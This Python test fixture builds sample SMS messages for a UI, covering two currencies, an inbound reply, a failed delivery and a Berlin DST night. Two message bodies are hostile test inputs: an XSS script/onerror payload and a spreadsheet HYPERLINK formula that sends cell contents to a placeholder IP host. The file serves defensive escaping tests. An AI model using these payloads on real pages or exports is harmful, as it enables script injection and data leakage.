"""Messages to read one by one: hostile texts, two currencies, a conversation, the night of a DST change."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from tests.messages import payload
from tests.ui.known import AMERICAN, GERMAN, HOSTILE, OURS, at

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"Click")'
SID = "SM" + "0" * 29 + "{:03x}"
DST_DAY = "since=2025-03-30&until=2025-03-31&timezone=Europe/Berlin"


def sid(number: int) -> str:
    return f"SM{number:032x}"


def row_messages() -> list[dict[str, Any]]:
    """64 messages in March 2025: 60 plain ones of the 3rd, two hostile, one inbound, one undelivered."""
    out, german = {"from": OURS, "to": AMERICAN}, {"from": OURS, "to": GERMAN}
    plain = [
        payload(number, **at(3, 3, 6 + number % 12), **out, body=f"Parcel number {number} is on its way.")
        for number in range(1, 61)
    ]
    euros = {"price": "-0.0500", "price_unit": "EUR"}
    answer = {"direction": "inbound", "status": "received", "body": "+1 thanks\tfor\nthat — 😀"}
    failed = {"status": "undelivered", "error_code": 30003, "price": "-0.0332", "num_segments": "4"}
    return [
        *plain,
        payload(61, **at(3, 4, 9), **german, body=SCRIPT, **euros),
        payload(62, **at(3, 4, 10), **{"from": HOSTILE, "to": AMERICAN}, body=FORMULA),
        payload(63, **at(3, 4, 11), **{"from": AMERICAN, "to": OURS}, **answer),
        payload(64, **at(3, 4, 12), **out, body="It’s " + "long " * 40, **failed),
    ]


def dst_messages() -> list[dict[str, Any]]:
    """Three of the 23 hours that the 30 March 2025 has in Berlin, and one just outside each end."""
    moments = [(29, 22, 59), (29, 23, 0), (30, 0, 30), (30, 1, 30), (30, 21, 59), (30, 22, 0)]
    payloads = []
    for number, (day, hour, minute) in enumerate(moments, 100):
        moment = datetime(2025, 3, day, hour, minute, tzinfo=UTC)
        payloads.append(payload(number, date_created=moment, date_sent=moment, date_updated=moment))
    return payloads
